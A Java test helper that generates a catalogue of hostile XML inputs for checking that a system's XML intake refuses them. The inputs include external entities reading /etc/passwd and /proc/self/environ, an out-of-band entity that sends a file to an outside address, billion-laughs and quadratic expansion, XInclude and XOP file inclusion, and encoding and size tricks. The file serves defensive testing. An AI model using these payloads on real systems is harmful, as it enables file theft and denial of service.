package io.tessera.system;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.net.URI;
import java.nio.charset.Charset;
import java.util.LinkedHashMap;
import java.util.Map;

/**
 * XML that wants to read files, call others, grow, or be read otherwise than it was checked: for
 * each intake of XML there is, as it is or around a document that the intake would take.
 */
final class XmlAttacks {
  private static final String FILE = "file:///etc/passwd";
  private static final int LEVELS = 12;

  private final Map<String, byte[]> all = new LinkedHashMap<>();
  private final String root;
  private final String content;
  private final URI outside;

  private XmlAttacks(String root, String content, URI outside) {
    this.root = root;
    this.content = content;
    this.outside = outside;
  }

  /**
   * All attacks, by name.
   *
   * @param harmless a document that the intake takes, without declaration, with {@code VALUE} where
   *     text stands
   * @param outside an address that must never be called
   */
  static Map<String, byte[]> on(String harmless, URI outside) {
    String root = harmless.substring(1).split("[\\s>/]", 2)[0];
    XmlAttacks attacks = new XmlAttacks(root, harmless, outside);
    attacks.externalEntities();
    attacks.growth();
    attacks.otherIncludes();
    attacks.size();
    attacks.encodings();
    attacks.brokenSyntax();
    return attacks.all;
  }

  private void put(String name, String document) {
    all.put(name, document.getBytes(UTF_8));
  }

  private String with(String value) {
    return content.replace("VALUE", value);
  }

  private void doctype(String name, String declarations, String value) {
    put(name, "<?xml version=\"1.0\"?><!DOCTYPE " + root + " " + declarations + ">" + with(value));
  }

  private void entity(String name, String declaration) {
    doctype(name, "[" + declaration + "]", "&x;");
  }

  private void externalEntities() {
    entity("entity from a file", "<!ENTITY x SYSTEM \"" + FILE + "\">");
    entity("entity from a directory", "<!ENTITY x SYSTEM \"file:///etc/\">");
    entity("entity from a device", "<!ENTITY x SYSTEM \"file:///dev/zero\">");
    entity("entity from the process", "<!ENTITY x SYSTEM \"file:///proc/self/environ\">");
    entity("entity over HTTP", "<!ENTITY x SYSTEM \"" + outside + "/entity\">");
    entity("entity over FTP", "<!ENTITY x SYSTEM \"ftp://127.0.0.1:" + outside.getPort() + "/x\">");
    entity("entity in a jar", "<!ENTITY x SYSTEM \"jar:" + outside + "/x.jar!/x\">");
    entity("entity over netdoc", "<!ENTITY x SYSTEM \"netdoc:/etc/passwd\">");
    entity("public entity", "<!ENTITY x PUBLIC \"-//X//X\" \"" + outside + "/public\">");
    entity("relative entity", "<!ENTITY x SYSTEM \"../../../../etc/passwd\">");
    entity("parameter entity", "<!ENTITY % p SYSTEM \"" + outside + "/p\"> %p;<!ENTITY x \"1\">");
    entity(
        "parameter entity that carries a file away",
        "<!ENTITY % f SYSTEM \""
            + FILE
            + "\"><!ENTITY % e \"<!ENTITY &#x25; s SYSTEM '"
            + outside
            + "/?%f;'>\">%e;%s;<!ENTITY x \"1\">");
    doctype("external DTD over HTTP", "SYSTEM \"" + outside + "/dtd\"", "1");
    doctype("external DTD from a file", "SYSTEM \"" + FILE + "\"", "1");
    doctype("public DTD", "PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"" + outside + "/xhtml\"", "1");
    doctype(
        "external DTD with entities", "SYSTEM \"" + outside + "/e\" [<!ENTITY x \"1\">]", "&x;");
    entity(
        "notation", "<!NOTATION n SYSTEM \"" + outside + "/n\"><!ENTITY x SYSTEM \"y\" NDATA n>");
    entity(
        "attribute default from an entity",
        "<!ENTITY x SYSTEM \"" + FILE + "\"><!ATTLIST " + root + " a CDATA \"&x;\">");
    doctype("DOCTYPE without anything", "", "1");
    doctype("empty internal subset", "[]", "1");
    entity("internal entity", "<!ENTITY x \"harmless\">");
  }

  private void growth() {
    StringBuilder laughs = new StringBuilder("<!ENTITY a0 \"ha\">");
    for (int i = 1; i < LEVELS; i++) {
      laughs.append("<!ENTITY a").append(i).append(" \"");
      laughs.append(("&a" + (i - 1) + ";").repeat(10)).append("\">");
    }
    entity("billion laughs", laughs + "<!ENTITY x \"&a" + (LEVELS - 1) + ";\">");
    StringBuilder parameters = new StringBuilder("<!ENTITY % b0 \"ha\">");
    for (int i = 1; i < LEVELS; i++) {
      parameters.append("<!ENTITY % b").append(i).append(" \"");
      parameters.append(("&#37;b" + (i - 1) + ";").repeat(10)).append("\">");
    }
    entity("billion laughs of parameters", parameters + "%b" + (LEVELS - 1) + ";<!ENTITY x \"1\">");
    doctype(
        "quadratic blow-up", "[<!ENTITY x \"" + "x".repeat(50_000) + "\">]", "&x;".repeat(5_000));
    entity("entities in a circle", "<!ENTITY x \"&y;\"><!ENTITY y \"&x;\">");
    entity("entity of itself", "<!ENTITY x \"&x;\">");
    StringBuilder many = new StringBuilder();
    for (int i = 0; i < 20_000; i++) {
      many.append("<!ENTITY e").append(i).append(" \"").append(i).append("\">");
    }
    entity("20,000 entities", many + "<!ENTITY x \"1\">");
  }

  private void otherIncludes() {
    String xop = "<xop:Include xmlns:xop=\"http://www.w3.org/2004/08/xop/include\" href=\"";
    put("XOP include of a file", with(xop + FILE + "\"/>"));
    put("XOP include over HTTP", with(xop + outside + "/xop\"/>"));
    put("XOP include of an attachment", with(xop + "cid:none@here\"/>"));
    String include =
        "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"";
    put("XInclude of a file", with(include + FILE + "\"/>"));
    put("XInclude over HTTP", with(include + outside + "/xi\"/>"));
    put(
        "schema location",
        with(
            "<a xmlns:i=\"http://www.w3.org/2001/XMLSchema-instance\" i:schemaLocation=\"urn:x "
                + outside
                + "/xsd\" i:noNamespaceSchemaLocation=\""
                + outside
                + "/xsd2\"/>"));
    put(
        "a type to make",
        with(
            "<a xmlns:i=\"http://www.w3.org/2001/XMLSchema-instance\""
                + " i:type=\"java:java.net.URL\"/>"));
    put(
        "stylesheet",
        "<?xml-stylesheet type=\"text/xsl\" href=\"" + outside + "/xsl\"?>" + content);
    put("entity nobody declared", with("&nbsp;"));
    put(
        "signature with a reference elsewhere",
        with(
            "<ds:Signature xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\"><ds:SignedInfo>"
                + "<ds:Reference URI=\""
                + outside
                + "/ref\"/></ds:SignedInfo></ds:Signature>"));
  }

  private void size() {
    put("10,000 deep", with("<a>".repeat(10_000) + "</a>".repeat(10_000)));
    put("100,000 deep and never closed", "<a>".repeat(100_000));
    StringBuilder attributes = new StringBuilder("<a");
    StringBuilder namespaces = new StringBuilder("<a");
    for (int i = 0; i < 20_000; i++) {
      attributes.append(" a").append(i).append("=\"\"");
      namespaces.append(" xmlns:n").append(i).append("=\"u").append(i).append("\"");
    }
    put("20,000 attributes", with(attributes + "/>"));
    put("20,000 namespaces", with(namespaces + "/>"));
    put("an attribute of 500,000 characters", with("<a a=\"" + "x".repeat(500_000) + "\"/>"));
    put("a name of 500,000 characters", with("<" + "n".repeat(500_000) + "/>"));
    put("a text of 900,000 characters", with("x".repeat(900_000)));
    put("a comment of 900,000 characters", with("<!--" + "x".repeat(900_000) + "-->1<b/>"));
    put("200,000 elements", with("<a/>".repeat(200_000)));
  }

  private void encoded(String name, String declared, String charset) {
    String document =
        "<?xml version=\"1.0\" encoding=\""
            + declared
            + "\"?><!DOCTYPE "
            + root
            + " [<!ENTITY x SYSTEM \""
            + outside
            + "/encoded\">]>"
            + with("&x;");
    all.put(name, document.getBytes(Charset.forName(charset)));
  }

  private void encodings() {
    encoded("entity in UTF-16", "UTF-16", "UTF-16");
    encoded("entity in UTF-16 without a mark", "UTF-16LE", "UTF-16LE");
    encoded("entity in UTF-32", "UTF-32", "UTF-32");
    encoded("entity in EBCDIC", "IBM037", "IBM037");
    encoded("entity in Latin 1", "ISO-8859-1", "ISO-8859-1");
    encoded("entity, declared otherwise than sent", "UTF-16", "UTF-8");
    put(
        "entity in UTF-7",
        "<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADwAIQ-DOCTYPE x+AD4-" + with("1"));
    put(
        "an encoding that is none",
        "<?xml version=\"1.0\" encoding=\"" + FILE + "\"?>" + with("1"));
    byte[] overlong = with("1").getBytes(UTF_8);
    overlong[overlong.length - 1] = (byte) 0xc0;
    all.put("overlong UTF-8", overlong);
  }

  private void brokenSyntax() {
    put("nothing", " ");
    put("an empty body", content.replaceAll("Body>.*</", "Body></"));
    put("the same content twice", content.replaceAll("(<s:Body>)(.*)(</s:Body>)", "$1$2$2$3"));
    put("text", "hello");
    put("never closed", content.substring(0, content.length() - 5));
    put("two roots", with("1") + with("2"));
    put("the same attribute twice", with("<a a=\"1\" a=\"2\"/>"));
    put("a prefix nobody declared", with("<nobody:a/>"));
    put("a zero byte", with("\u0000"));
    put("a CDATA section that never ends", with("<![CDATA["));
    put("JSON", "{\"userName\":\"x\"}");
    put("HTML", "<!DOCTYPE html><html><body onload=\"alert(1)\">&nbsp;</body></html>");
  }
}
